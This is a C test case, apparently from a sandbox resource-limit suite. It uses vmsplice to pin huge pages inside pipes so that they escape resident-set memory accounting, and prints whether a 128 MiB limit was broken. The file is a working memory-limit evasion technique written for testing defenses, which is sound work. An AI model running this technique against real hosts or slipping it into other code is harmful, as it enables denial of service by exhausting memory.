// attack: Leaves huge pages in pipes, each held by one byte of it, so that they are in nobody's resident set.
// expect: Completed
// places: embedded

#define _GNU_SOURCE
#include <fcntl.h>
#include <stdio.h>
#include <sys/mman.h>
#include <sys/uio.h>
#include <unistd.h>

int main(void) {
    size_t huge = 2 << 20;
    char *base = mmap(NULL, 2 * huge, PROT_READ | PROT_WRITE, MAP_PRIVATE | MAP_ANONYMOUS, -1, 0);
    if (base == MAP_FAILED) { puts("BROKEN: could not try: no mapping"); return 0; }
    char *page = (char *)(((size_t)base + huge - 1) & ~(huge - 1));
    int pinned = 0;
    for (int pipes = 0; pipes < 12; pipes++) {
        int fd[2];
        if (pipe(fd) != 0) break;
        for (int slot = 0; slot < 16; slot++) {
            madvise(page, huge, MADV_HUGEPAGE);
            page[0] = 1;
            struct iovec byte = {page, 1};
            if (vmsplice(fd[1], &byte, 1, SPLICE_F_NONBLOCK) != 1) {
                if (pinned == 0) { puts("held"); return 0; }
                break;
            }
            pinned++;
            madvise(page, huge, MADV_DONTNEED);
        }
    }
    sleep(2);
    printf("BROKEN: %d huge pages pinned under a limit of 128 MiB\n", pinned);
    return 0;
}
